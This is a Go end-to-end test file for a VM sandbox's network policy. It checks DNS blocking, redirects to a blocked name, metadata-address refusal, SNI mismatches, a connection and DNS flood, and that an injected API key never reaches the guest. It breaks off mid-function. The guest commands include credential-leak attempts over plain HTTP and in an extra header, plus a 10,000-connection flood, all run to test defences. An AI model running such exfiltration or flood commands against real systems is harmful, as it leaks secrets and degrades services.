// busybox wget's TLS 1.2 ClientHello has no signature_algorithms, which Go's
// server takes as SHA-1 only, refused by default since Go 1.25.
//go:debug tlssha1=1

package vmhost_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"database/sql"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/capsem/capsem/core/api"
	"github.com/capsem/capsem/core/guestwire"
	"github.com/capsem/capsem/core/netca"
	"github.com/capsem/capsem/core/paths"
	"github.com/capsem/capsem/core/testkit"
	"github.com/capsem/capsem/core/vmhost"
)

// netWorld is the test's own little internet on the host's loopback: an
// HTTP and an HTTPS server that record the Host of every request, and a
// server that never speaks. The VM reaches them only through hosts +
// allow_private, and its process may dial loopback only
// (--net-loopback-only), so no packet leaves this machine.
type netWorld struct {
	web, tls     *httptest.Server
	silent       net.Listener
	silentAccept atomic.Int64
	mu           sync.Mutex
	hosts        []string
	paths        []string
	// api is a fake of Anthropic's streaming API at api.anthropic.com
	// (a leaf of the test's own CA, given as the credential's ca_file),
	// reached through a credential whose real value is secret.
	api               *httptest.Server
	apiKeys           []string
	secret            string
	secretFile, roots string
}

// secretPrefix starts the test's secret: a guest program may be told it
// (and the secret's hash) to search the guest for the secret without
// learning it.
const secretPrefix = "sk-capsem-e2e-"

func newNetWorld(t *testing.T) *netWorld {
	w := &netWorld{}
	h := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		w.hosts = append(w.hosts, r.Host)
		w.paths = append(w.paths, r.URL.Path)
		w.mu.Unlock()
		if r.URL.Path == "/redirect" {
			http.Redirect(rw, r, "http://evil.test:"+port(w.web)+"/", http.StatusFound)
			return
		}
		fmt.Fprintf(rw, "hello from %s", r.Host)
	})
	w.web, w.tls = httptest.NewServer(h), httptest.NewTLSServer(h)
	t.Cleanup(w.web.Close)
	t.Cleanup(w.tls.Close)
	var err error
	if w.silent, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.silent.Close() })
	w.startAPI(t)
	go func() {
		for {
			c, err := w.silent.Accept()
			if err != nil {
				return
			}
			w.silentAccept.Add(1)
			defer c.Close()
		}
	}()
	return w
}

func port(s *httptest.Server) string {
	_, p, _ := net.SplitHostPort(s.Listener.Addr().String())
	return p
}

func (w *netWorld) sawHost(h string) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, x := range w.hosts {
		if x == h {
			return true
		}
	}
	return false
}

// startAPI starts the fake model API and writes the credential's files.
func (w *netWorld) startAPI(t *testing.T) {
	dir := t.TempDir()
	upCA, err := netca.LoadOrCreate(filepath.Join(dir, "upstream-ca.pem"))
	if err != nil {
		t.Fatal(err)
	}
	w.roots = filepath.Join(dir, "upstream-roots.pem")
	if err := os.WriteFile(w.roots, upCA.CertPEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	leaf, err := upCA.Leaf("api.anthropic.com")
	if err != nil {
		t.Fatal(err)
	}
	random := make([]byte, 16)
	rand.Read(random)
	w.secret = secretPrefix + hex.EncodeToString(random)
	w.secretFile = filepath.Join(dir, "anthropic.key")
	if err := os.WriteFile(w.secretFile, []byte(w.secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	w.api = httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		key := r.Header.Get("X-Api-Key")
		w.mu.Lock()
		w.apiKeys = append(w.apiKeys, key)
		w.mu.Unlock()
		io.Copy(io.Discard, r.Body)
		rw.Header().Set("Content-Type", "text/event-stream")
		rw.Header().Set("X-Echo", key) // as a careless upstream's error might
		fmt.Fprint(rw, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-test-1\",\"usage\":{\"input_tokens\":25,\"output_tokens\":1}}}\n\n")
		rw.(http.Flusher).Flush()
		fmt.Fprintf(rw, "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"text\":\"echo %s\"}}\n\n", key)
		fmt.Fprint(rw, "event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":15}}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n")
	}))
	w.api.EnableHTTP2 = true
	w.api.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	w.api.StartTLS()
	t.Cleanup(w.api.Close)
}

func (w *netWorld) sawPath(p string) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return slices.Contains(w.paths, p)
}

func (w *netWorld) policy(blockWeb bool) string {
	_, silentPort, _ := net.SplitHostPort(w.silent.Addr().String())
	block := `"evil.test"`
	if blockWeb {
		block += `, "web.test"`
	}
	return fmt.Sprintf(`[net]
default = "block"
allow = ["web.test", "tls.test", "silent.test", "other.test", "evil.test", "api.anthropic.com"]
block = [%s]
ports = [%s, %s, %s, %s]
allow_private = ["web.test", "tls.test", "silent.test", "evil.test", "api.anthropic.com"]
hosts = { "web.test" = "127.0.0.1", "tls.test" = "127.0.0.1", "silent.test" = "127.0.0.1", "other.test" = "127.0.0.1", "evil.test" = "127.0.0.1", "api.anthropic.com" = "127.0.0.1" }

[[net.credentials]]
host = "api.anthropic.com"
header = "x-api-key"
source_file = %q
guest_env = "ANTHROPIC_API_KEY"
ca_file = %q
`, block, port(w.web), port(w.tls), silentPort, port(w.api), w.secretFile, w.roots)
}

// TestGuestNetwork drives the guest's network from inside a real VM with
// busybox's own clients, against the test's loopback servers.
func TestGuestNetwork(t *testing.T) {
	w := newNetWorld(t)
	cfg := filepath.Join(t.TempDir(), "net.toml")
	if err := os.WriteFile(cfg, []byte(w.policy(false)), 0o600); err != nil {
		t.Fatal(err)
	}
	v := startVM(t, "netvm", func(c *vmhost.ProcessConfig) { c.Config = cfg; c.NetLoopbackOnly = true })
	defer v.stop(t)
	webPort, tlsPort := port(w.web), port(w.tls)
	_, silentPort, _ := net.SplitHostPort(w.silent.Addr().String())
	run := func(t *testing.T, script string) (string, int) {
		t.Helper()
		start := time.Now()
		out, errOut, code := v.guestRun(t, script)
		t.Logf("%q: exit %d after %v: %s", script, code, time.Since(start).Round(time.Millisecond), out+errOut)
		return out + errOut, code
	}

	t.Run("resolver is the host", func(t *testing.T) {
		out, code := run(t, "cat /etc/resolv.conf")
		if code != 0 || !strings.Contains(out, "nameserver 192.168.127.1") {
			t.Fatalf("resolv.conf (%d): %s", code, out)
		}
		// As capsem_read_file reads it: the per-VM API's file read.
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		b, err := v.client.ReadFile(ctx, "/etc/resolv.conf", true, 0)
		if err != nil || !strings.Contains(string(b), "nameserver 192.168.127.1") {
			t.Fatalf("reading /etc/resolv.conf through the API: %q %v", b, err)
		}
	})
	t.Run("allowed name resolves to a stand-in", func(t *testing.T) {
		out, code := run(t, "nslookup web.test")
		if code != 0 || !strings.Contains(out, "198.18.0.") {
			t.Fatalf("nslookup web.test (%d): %s", code, out)
		}
		// A resolver named in the guest is answered by the host too.
		out, code = run(t, "nslookup tls.test 8.8.8.8")
		if code != 0 || !strings.Contains(out, "198.18.0.") {
			t.Fatalf("nslookup via 8.8.8.8 (%d): %s", code, out)
		}
	})
	t.Run("blocked name is NXDOMAIN", func(t *testing.T) {
		out, code := run(t, "nslookup evil.test")
		if code == 0 || strings.Contains(out, "198.18.") {
			t.Fatalf("nslookup evil.test (%d): %s", code, out)
		}
	})
	t.Run("HTTP by Host", func(t *testing.T) {
		out, code := run(t, "wget -q -O - http://web.test:"+webPort+"/hello")
		if code != 0 || !strings.Contains(out, "hello from web.test:"+webPort) {
			t.Fatalf("wget (%d): %s", code, out)
		}
	})
	t.Run("HTTPS by SNI", func(t *testing.T) {
		out, code := run(t, "wget -q --no-check-certificate -O - https://tls.test:"+tlsPort+"/")
		if code != 0 || !strings.Contains(out, "hello from tls.test:"+tlsPort) {
			t.Fatalf("wget https (%d): %s", code, out)
		}
	})
	t.Run("Host of another name on a pinned address", func(t *testing.T) {
		// other.test may not be private, so it has no address; sent to
		// web.test's, it is refused before the host dials.
		out, code := run(t, "ip=$(nslookup web.test | awk '/^Address: 198/{print $2}'); timeout 20 wget -q -O - --header 'Host: other.test' http://$ip:"+webPort+"/")
		if code == 0 || w.sawHost("other.test") {
			t.Fatalf("a Host not pinned to the address got through (%d): %s", code, out)
		}
	})
	t.Run("redirect to a blocked name", func(t *testing.T) {
		out, code := run(t, "timeout 20 wget -q -O - http://web.test:"+webPort+"/redirect")
		if code == 0 || w.sawHost("evil.test:"+webPort) {
			t.Fatalf("the redirect reached a blocked name (%d): %s", code, out)
		}
	})
	t.Run("bare, private and metadata addresses", func(t *testing.T) {
		for _, ip := range []string{"203.0.113.5", "10.0.0.1", "192.168.127.1", "169.254.169.254", "127.0.0.1"} {
			out, code := run(t, "timeout 20 wget -q -O - http://"+ip+":"+webPort+"/")
			if code == 0 {
				t.Errorf("%s answered: %s", ip, out)
			}
		}
	})
	t.Run("a server that never speaks first", func(t *testing.T) {
		// nc connects and sends nothing: the host cuts the connection off
		// after a few seconds of waiting for a first flight, and never
		// dials the server, which would only ever speak first. (busybox
		// nc itself lingers until its input ends, so the guest's own TCP
		// table tells: one established connection at 1 s, none at 10 s.)
		out, code := run(t, "conns() { awk 'NR>1 && $4==\"01\"' /proc/net/tcp | wc -l; }; "+
			"(sleep 12 | timeout 30 nc silent.test "+silentPort+") & sleep 1; echo at1=$(conns); sleep 9; echo at10=$(conns); wait")
		if code != 0 || !strings.Contains(out, "at1=1") || !strings.Contains(out, "at10=0") {
			t.Fatalf("the silent connection was not cut off (%d): %s", code, out)
		}
		if n := w.silentAccept.Load(); n != 0 {
			t.Errorf("the host dialled a connection that named nothing (%d accepts)", n)
		}
	})
	t.Run("a traced command's connections carry its trace id", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		o := v.exec(ctx, &api.ExecRequest{Command: "wget -q -O - http://web.test:" + webPort + "/traced", TraceID: "trace-net-1"})
		if o.err != nil || o.ev.ExitCode != 0 || !strings.Contains(o.stdout.String(), "hello from web.test") {
			t.Fatalf("traced wget: %v %+v %s%s", o.err, o.ev, o.stdout.String(), o.stderr.String())
		}
		// The variable is the host's to set.
		if o := v.exec(ctx, &api.ExecRequest{Command: "true", Env: map[string]string{"CAPSEM_TRACE_ID": "forged"}}); o.err == nil && o.ev.Error == "" {
			t.Fatalf("an exec set CAPSEM_TRACE_ID itself: %+v", o.ev)
		}
	})
	t.Run("credential", func(t *testing.T) {
		testCredential(t, v, w, run)
	})
	t.Run("SNI that disagrees with DNS", func(t *testing.T) {
		// The credential subtest left credclient in the guest. A
		// ClientHello naming other.test (allowed, but given no address:
		// it may not be private), sent to the address DNS gave tls.test,
		// is refused before the host dials; the same hello naming
		// tls.test goes through.
		lookup := func(name string) string {
			return "$(nslookup " + name + " | awk '/^Address: 198/{print $2}')"
		}
		out, code := run(t, "/tmp/credclient -dial "+lookup("tls.test")+":"+tlsPort+" -sni tls.test")
		if code != 0 || !strings.Contains(out, "handshake ok") {
			t.Fatalf("a handshake naming the address's own name failed (%d): %s", code, out)
		}
		out, code = run(t, "/tmp/credclient -dial "+lookup("tls.test")+":"+tlsPort+" -sni other.test")
		if code == 0 || strings.Contains(out, "handshake ok") {
			t.Fatalf("SNI other.test on tls.test's address got through (%d): %s", code, out)
		}
	})
	t.Run("the guest doctor's net group", func(t *testing.T) {
		out, code := run(t, "capsem-doctor -k net --url http://web.test:"+webPort+"/doctor")
		if code != 0 || !strings.Contains(out, "RESULT: PASS") || !w.sawHost("web.test:"+webPort) {
			t.Fatalf("capsem-doctor -k net (%d): %s", code, out)
		}
	})

	db, err := sql.Open("sqlite3", "file:"+filepath.Join(v.sessionDir, "session.db")+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	t.Run("ledger", func(t *testing.T) {
		count := func(q string, args ...any) int {
			var n int
			if err := db.QueryRow(q, args...).Scan(&n); err != nil {
				t.Fatalf("%s: %v", q, err)
			}
			return n
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE domain = 'web.test' AND action = 'allowed' AND status_code = 200 AND source = 'guest' AND conn_type = 'http' AND ip = '127.0.0.1'`); n < 1 {
			t.Errorf("no allowed row for web.test: %s", dump(db, "net_events"))
		}
		// wget's, then credclient's handshake (SNI subtest).
		if n := count(`SELECT COUNT(*) FROM net_events WHERE domain = 'tls.test' AND decision = 'allowed' AND conn_type = 'https' AND bytes_received > 0`); n != 2 {
			t.Errorf("%d rows for tls.test, want 2: %s", n, dump(db, "net_events"))
		}
		for _, ip := range []string{"203.0.113.5", "10.0.0.1", "169.254.169.254"} {
			if n := count(`SELECT COUNT(*) FROM net_events WHERE ip = ? AND decision = 'denied' AND policy_rule = 'not-resolved'`, ip); n != 1 {
				t.Errorf("%d refusal rows for %s: %s", n, ip, dump(db, "net_events"))
			}
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE policy_rule = 'no-name' AND policy_reason LIKE '%in time%'`); n != 1 {
			t.Errorf("%d rows for the client that never spoke: %s", n, dump(db, "net_events"))
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE domain = 'other.test' AND decision = 'denied' AND conn_type = 'http'`); n != 1 {
			t.Errorf("%d refusal rows for other.test's Host: %s", n, dump(db, "net_events"))
		}
		if n := count(`SELECT COUNT(*) FROM dns_events WHERE name = 'evil.test' AND rcode = 'NXDOMAIN' AND decision = 'denied' AND policy_rule = 'evil.test'`); n < 2 {
			t.Errorf("%d NXDOMAIN rows for evil.test: %s", n, dump(db, "dns_events"))
		}
		if n := count(`SELECT COUNT(*) FROM dns_events WHERE name = 'tls.test' AND server = '8.8.8.8' AND decision = 'allowed'`); n < 1 {
			t.Errorf("no row for the query sent to 8.8.8.8: %s", dump(db, "dns_events"))
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE trace_id = 'trace-net-1' AND process_name = 'wget' AND pid > 0 AND path = '/traced' AND status_code = 200`); n != 1 {
			t.Errorf("%d rows for the traced command's connection: %s", n, dump(db, "net_events"))
		}
		if n := count(`SELECT COUNT(*) FROM exec_events WHERE trace_id = 'trace-net-1'`); n != 1 {
			t.Errorf("%d exec rows with the trace id", n)
		}
		// The seed's own debug query.
		rows, err := db.Query(`SELECT domain, action, status_code FROM net_events ORDER BY timestamp DESC LIMIT 10`)
		if err != nil {
			t.Fatal(err)
		}
		var seen []string
		var doctorFetch, refused bool
		for rows.Next() {
			var domain sql.NullString
			var action string
			var status sql.NullInt64
			if err := rows.Scan(&domain, &action, &status); err != nil {
				t.Fatal(err)
			}
			seen = append(seen, fmt.Sprintf("%s|%s|%d", domain.String, action, status.Int64))
			if action != "allowed" && action != "denied" && action != "error" {
				t.Errorf("the seed's query gave action %q", action)
			}
			doctorFetch = doctorFetch || domain.String == "web.test" && action == "allowed" && status.Int64 == 200
			refused = refused || action == "denied"
		}
		rows.Close()
		// The last connections were the SNI refusal and the doctor's run.
		if len(seen) != 10 || !doctorFetch || !refused {
			t.Errorf("the seed's query: %q", seen)
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE domain = 'other.test' AND decision = 'denied' AND policy_rule = 'name-mismatch' AND conn_type = 'https'`); n != 1 {
			t.Errorf("%d rows for the SNI of another name: %s", n, dump(db, "net_events"))
		}
	})
	t.Run("ledger of the credential path", func(t *testing.T) {
		count := func(q string) int {
			var n int
			if err := db.QueryRow(q).Scan(&n); err != nil {
				t.Fatalf("%s: %v", q, err)
			}
			return n
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE domain = 'api.anthropic.com' AND conn_type = 'https-terminated' AND status_code = 200 AND method = 'POST' AND path = '/v1/messages' AND policy_rule = 'net.credentials' AND decision = 'allowed'`); n != 1 {
			t.Errorf("%d rows for the credentialed call: %s", n, dump(db, "net_events"))
		}
		if n := count(`SELECT COUNT(*) FROM model_calls WHERE provider = 'anthropic' AND model = 'claude-test-1' AND input_tokens = 25 AND output_tokens = 15 AND status_code = 200 AND response_bytes > 0 AND trace_id = 'trace-model-1' AND process_name = 'credclient'`); n != 1 {
			t.Errorf("%d model_calls rows: %s", n, dump(db, "model_calls"))
		}
		if n := count(`SELECT COUNT(*) FROM net_events WHERE policy_rule = 'credential-exfiltration' AND decision = 'denied' AND policy_reason LIKE '%ANTHROPIC_API_KEY%'`); n != 2 {
			t.Errorf("%d exfiltration rows, want 2 (another header, plain HTTP): %s", n, dump(db, "net_events"))
		}
	})
	t.Run("the secret is on the host only", func(t *testing.T) {
		// Every file of the VM's session (session.db and its WAL, the
		// process and console logs) and of the test home's run dir.
		// The guest's disk images are searched from inside (above), not
		// read whole here: they are sparse files of gigabytes.
		scanned := 0
		for _, root := range []string{v.sessionDir, filepath.Join(testkit.CapsemHome(t), "run")} {
			filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
				if err != nil || !d.Type().IsRegular() {
					return nil
				}
				info, err := d.Info()
				if err != nil {
					return nil
				}
				if info.Size() > 256<<20 {
					t.Logf("not searched: %s (%d bytes)", p, info.Size())
					return nil
				}
				found, err := fileContains(p, w.secret)
				if err == nil {
					scanned++
				}
				if found {
					t.Errorf("the secret is in %s", p)
				}
				return nil
			})
		}
		if scanned < 3 {
			t.Fatalf("searched %d files; the session's database and logs are missing", scanned)
		}
	})
	t.Run("no dial left this machine", func(t *testing.T) {
		log, _ := os.ReadFile(paths.Session{Dir: v.sessionDir}.ProcessLog())
		if strings.Contains(string(log), "refused a dial outside loopback") {
			t.Errorf("the stack tried to dial off this machine:\n%s", log)
		}
	})
	t.Run("live reload closes the door", func(t *testing.T) {
		if err := os.WriteFile(cfg, []byte(w.policy(true)), 0o600); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		reload := exec.CommandContext(ctx, testkit.CapsemBinary(t), "policy", "reload")
		reload.Env = append(os.Environ(), "CAPSEM_HOME="+testkit.CapsemHome(t))
		if out, err := reload.CombinedOutput(); err != nil || !strings.Contains(string(out), "reloaded vm netvm") {
			t.Fatalf("policy reload: %v\n%s", err, out)
		}
		out, code := run(t, "timeout 20 wget -q -O - http://web.test:"+webPort+"/after-reload")
		if code == 0 {
			t.Fatalf("web.test still reachable after the reload blocked it: %s", out)
		}
		if n := 0; db.QueryRow(`SELECT COUNT(*) FROM dns_events WHERE name = 'web.test' AND decision = 'denied'`).Scan(&n) != nil || n < 1 {
			t.Errorf("no denied query for web.test after the reload: %s", dump(db, "dns_events"))
		}
	})
}

// dumpQuery prints a query's columns and rows, "|"-separated, for a
// failure message.
func dumpQuery(db *sql.DB, q string) string {
	rows, err := db.Query(q)
	if err != nil {
		return err.Error()
	}
	defer rows.Close()
	cols, _ := rows.Columns()
	var b strings.Builder
	b.WriteString(strings.Join(cols, "|") + "\n")
	for rows.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		rows.Scan(ptrs...)
		for i, v := range vals {
			if i > 0 {
				b.WriteString("|")
			}
			fmt.Fprint(&b, v)
		}
		b.WriteString("\n")
	}
	return b.String()
}

// dump prints a table's last rows for a failure message.
func dump(db *sql.DB, table string) string {
	return dumpQuery(db, "SELECT * FROM "+table+" ORDER BY id DESC LIMIT 20")
}

var _ = api.ExecRequest{}

// TestHostileGuestNetworkFlood: root in the guest opens 10,000 silent
// connections at once to an allowed name's address and floods the
// resolver with 20,000 queries for names the policy refuses
// (testdata/netflood). Past its bounds the guest gets refusals; the per-VM
// process's memory grows by a bounded amount and its log by a few lines;
// the VM's network still works afterwards, and another VM is unaffected
// meanwhile.
func TestHostileGuestNetworkFlood(t *testing.T) {
	w := newNetWorld(t)
	cfg := filepath.Join(t.TempDir(), "net.toml")
	if err := os.WriteFile(cfg, []byte(w.policy(false)), 0o600); err != nil {
		t.Fatal(err)
	}
	v := startVM(t, "netflood", func(c *vmhost.ProcessConfig) { c.Config = cfg; c.NetLoopbackOnly = true })
	defer v.stop(t)
	other := sharedVM(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	bin, err := os.ReadFile(testkit.GuestProgram(t, "./testdata/netflood", "netflood"))
	if err != nil {
		t.Fatal(err)
	}
	if err := v.client.WriteFile(ctx, "/tmp/netflood", bin, 0o755); err != nil {
		t.Fatal(err)
	}
	_, silentPort, _ := net.SplitHostPort(w.silent.Addr().String())
	out, _, code := v.guestRun(t, "nslookup silent.test | awk '/^Address: 198/{print $2}'")
	addr := strings.TrimSpace(out)
	if code != 0 || !strings.HasPrefix(addr, "198.18.") {
		t.Fatalf("silent.test resolved to %q (%d)", addr, code)
	}
	resetHWM(t, v.info.PID)
	hwm0, log0 := vmHWM(t, v.info.PID), fileSize(t, v.log)

	// Another VM works while this one floods.
	otherDone := make(chan string, 1)
	go func() {
		time.Sleep(2 * time.Second)
		o := other.exec(ctx, &api.ExecRequest{Command: "capsem-doctor -k net"})
		otherDone <- o.stdout.String() + o.stderr.String()
	}()
	flood := v.exec(ctx, &api.ExecRequest{Command: "/tmp/netflood -conns 10000 -addr " + addr + ":" + silentPort + " -hold 3s -dns 20000 -suffix evil.test"})
	if flood.err != nil || flood.ev.ExitCode != 0 {
		t.Fatalf("netflood: %v\n%s\n%s", flood.err, flood.stdout.String(), flood.stderr.String())
	}
	res := flood.stdout.String()
	t.Logf("netflood: %s", res)
	var established, refused, otherErr, open, sent, answered int
	fmt.Sscanf(res[strings.Index(res, "conns "):], "conns established=%d refused=%d other=%d open=%d", &established, &refused, &otherErr, &open)
	fmt.Sscanf(res[strings.Index(res, "dns "):], "dns sent=%d answered=%d", &sent, &answered)
	// The host holds each silent connection for its first-flight wait
	// (5 s), so the guest fills the flow bound and is refused past it.
	// The bound is the host's to hold and to count: the guest learns of
	// an end only when its reader runs, so its own figure (open) can run
	// past the bound by the connections ended but not yet noticed.
	info, err := v.client.Info(ctx)
	if err != nil || info.Network == nil {
		t.Fatalf("info: %+v, %v", info, err)
	}
	n := info.Network
	t.Logf("host: most open at once %d (bound %d), %d refused at the bound; guest: most open at once %d, %d refused",
		n.PeakConnections, n.ConnectionLimit, n.RefusedAtLimit, open, refused)
	if n.ConnectionLimit != 1024 || n.PeakConnections != n.ConnectionLimit || refused == 0 || n.RefusedAtLimit < int64(refused) {
		t.Errorf("the flow bound did not hold: %+v; the guest saw %d refused", *n, refused)
	}
	if sent != 20000 || answered == 0 {
		t.Errorf("DNS flood: %d sent, %d answered", sent, answered)
	}
	if n := w.silentAccept.Load(); n != 0 {
		t.Errorf("the host dialled %d silent connections", n)
	}
	growth := vmHWM(t, v.info.PID) - hwm0
	logGrowth := fileSize(t, v.log) - log0
	t.Logf("per-VM process peak RSS +%d MiB, process.log +%d KiB", growth>>20, logGrowth>>10)
	if growth > 128<<20 {
		t.Errorf("the per-VM process grew by %d MiB under the flood; the bound is 128 MiB", growth>>20)
	}
	if logGrowth > 256<<10 {
		t.Errorf("process.log grew by %d KiB under the flood", logGrowth>>10)
	}
	if got := <-otherDone; !strings.Contains(got, "RESULT: PASS") {
		t.Errorf("another VM's network during the flood:\n%s", got)
	}
	// The ledger took the refusals up to its rate and counted the rest in
	// summary rows: every query the guest saw refused is a row or is
	// counted, and the rows of their own stay within the budget.
	db, err := sql.Open("sqlite3", "file:"+filepath.Join(v.sessionDir, "session.db")+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var rows, counted int
	summaryDeadline := time.Now().Add(30 * time.Second)
	for {
		db.QueryRow(`SELECT COUNT(*) FROM dns_events WHERE decision = 'denied' AND name LIKE '%evil.test'`).Scan(&rows)
		counted = 0
		reasons, err := db.Query(`SELECT policy_reason FROM dns_events WHERE policy_rule = 'rate-limited'`)
		if err != nil {
			t.Fatal(err)
		}
		for reasons.Next() {
			var reason string
			var n int
			reasons.Scan(&reason)
			fmt.Sscanf(reason, "%d more refused DNS queries", &n)
			counted += n
		}
		reasons.Close()
		if rows+counted >= answered || time.Now().After(summaryDeadline) {
			break
		}
		time.Sleep(time.Second)
	}
	t.Logf("refused queries the guest saw answered: %d; rows of their own: %d; counted in summaries: %d", answered, rows, counted)
	if rows+counted < answered {
		t.Errorf("%d refusals are neither rows nor counted; dns_events by decision and rule:\n%s", answered-rows-counted,
			dumpQuery(db, `SELECT decision, policy_rule, rcode, COUNT(*), MIN(name) FROM dns_events GROUP BY 1, 2, 3`))
	}
	if limit := 1000 + 100*int(flood.ev.DurationMS/1000+30) + 50; rows > limit {
		t.Errorf("%d refusal rows of their own, more than the budget allows (%d)", rows, limit)
	}
	// The flooded VM's own network still serves.
	out, errOut, code := v.guestRun(t, "wget -q -O - http://web.test:"+port(w.web)+"/after")
	if code != 0 || !strings.Contains(out, "hello from web.test") {
		t.Errorf("after the flood (%d): %s%s", code, out, errOut)
	}
}

// testCredential drives the credential path from inside the VM with a Go
// HTTPS client that trusts what the guest's environment names, as model
// SDKs do.
func testCredential(t *testing.T, v *vmProc, w *netWorld, run func(*testing.T, string) (string, int)) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	bin, err := os.ReadFile(testkit.GuestProgram(t, "./testdata/credclient", "credclient"))
	if err != nil {
		t.Fatal(err)
	}
	if err := v.client.WriteFile(ctx, "/tmp/credclient", bin, 0o755); err != nil {
		t.Fatal(err)
	}
	const placeholder = "capsem-placeholder-anthropic-api-key"
	url := "https://api.anthropic.com:" + port(w.api) + "/v1/messages"
	out, code := run(t, `echo "key=$ANTHROPIC_API_KEY"; echo "bundle=$SSL_CERT_FILE node=$NODE_EXTRA_CA_CERTS requests=$REQUESTS_CA_BUNDLE"; grep -c BEGIN "$SSL_CERT_FILE"`)
	if code != 0 || !strings.Contains(out, "key="+placeholder+"\n") || !strings.Contains(out, "bundle="+guestwire.GuestCABundle+" node="+guestwire.GuestExtraCAs+" requests="+guestwire.GuestCABundle) {
		t.Fatalf("the guest's credential environment (%d): %s", code, out)
	}
	traced := v.exec(ctx, &api.ExecRequest{Command: "/tmp/credclient -url " + url, TraceID: "trace-model-1"})
	out, code = traced.stdout.String()+traced.stderr.String(), traced.ev.ExitCode
	if traced.err != nil {
		t.Fatal(traced.err)
	}
	if code != 0 || !strings.Contains(out, "status=200 proto=HTTP/2.0 echo="+placeholder) ||
		!strings.Contains(out, "message_start") || !strings.Contains(out, "echo "+placeholder) || strings.Contains(out, w.secret) {
		t.Fatalf("the credentialed call (%d): %s", code, out)
	}
	w.mu.Lock()
	keys := slices.Clone(w.apiKeys)
	w.mu.Unlock()
	if len(keys) != 1 || keys[0] != w.secret {
		t.Fatalf("the API got keys %q, want the real value once", keys)
	}
	out, code = run(t, `/tmp/credclient -url `+url+` -extra "x-debug:$ANTHROPIC_API_KEY"`)
	if code != 0 || !strings.Contains(out, "status=403") {
		t.Fatalf("the placeholder in another header (%d): %s", code, out)
	}
	out, code = run(t, `timeout 20 wget -q -O - --header "Authorization: Bearer $ANTHROPIC_API_KEY" http://web.test:`+port(w.web)+`/leak`)
	if code == 0 || w.sawPath("/leak") {
		t.Fatalf("the placeholder went out over plain HTTP (%d): %s", code, out)
	}
	if w.mu.Lock(); len(w.apiKeys) != 1 {
		t.Errorf("a refused request reached the API: %q", w.apiKeys)
	}
	w.mu.Unlock()
	// The guest is searched for the secret by a program told only its
	// public prefix and its hash.
	decoy := secretPrefix + "decoy-in-the-guest-0123456789abcd"
	decoySum := sha256.Sum256([]byte(decoy))
	out, code = run(t, fmt.Sprintf("echo %s > /root/decoy; /tmp/credclient -scan / -scan-prefix %s -scan-len %d -scan-sha256 %x", decoy, secretPrefix, len(decoy), decoySum))
	if code != 0 || !strings.Contains(out, "found in /root/decoy") || strings.Contains(out, " found=0") {
		t.Fatalf("the search did not find a planted decoy (%d): %s", code, out)
	}
	sum := sha256.Sum256([]byte(w.secret))
	out, code = run(t, fmt.Sprintf("env | grep -c %s; /tmp/credclient -scan / -scan-prefix %s -scan-len %d -scan-sha256 %x", secretPrefix, secretPrefix, len(w.secret), sum))
	if code != 0 || !strings.HasPrefix(out, "0\n") || !strings.Contains(out, "scanned ") || !strings.Contains(out, " found=0") {
		t.Fatalf("searching the guest for the secret (%d): %s", code, out)
	}
	// And for the install's CA key, which signs every certificate the
	// guest trusts: the guest is told only its PEM header, length and hash.
	key := caKeyPEM(t, filepath.Join(testkit.CapsemHome(t), "net-ca.pem"))
	header, _, _ := bytes.Cut(key, []byte("\n"))
	// The same search finds a planted key of the same form.
	planted := pem.EncodeToMemory(&pem.Block{Type: strings.Trim(string(header), "- ")[len("BEGIN "):], Bytes: []byte(rand.Text())})
	plantedSum := sha256.Sum256(planted)
	out, code = run(t, fmt.Sprintf("printf '%%s' '%s' > /root/planted.pem; /tmp/credclient -scan /root -scan-prefix '%s' -scan-len %d -scan-sha256 %x; rm /root/planted.pem",
		planted, header, len(planted), plantedSum))
	if code != 0 || !strings.Contains(out, "found in /root/planted.pem") {
		t.Fatalf("the search did not find a planted key (%d): %s", code, out)
	}
	keySum := sha256.Sum256(key)
	out, code = run(t, fmt.Sprintf("/tmp/credclient -scan / -scan-prefix '%s' -scan-len %d -scan-sha256 %x", header, len(key), keySum))
	if code != 0 || !strings.Contains(out, "scanned ") || !strings.Contains(out, " found=0") {
		t.Fatalf("searching the guest for the CA's key (%d): %s", code, out)
	}
}

// caKeyPEM is the private key block of the CA file at path, as PEM.
func caKeyPEM(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
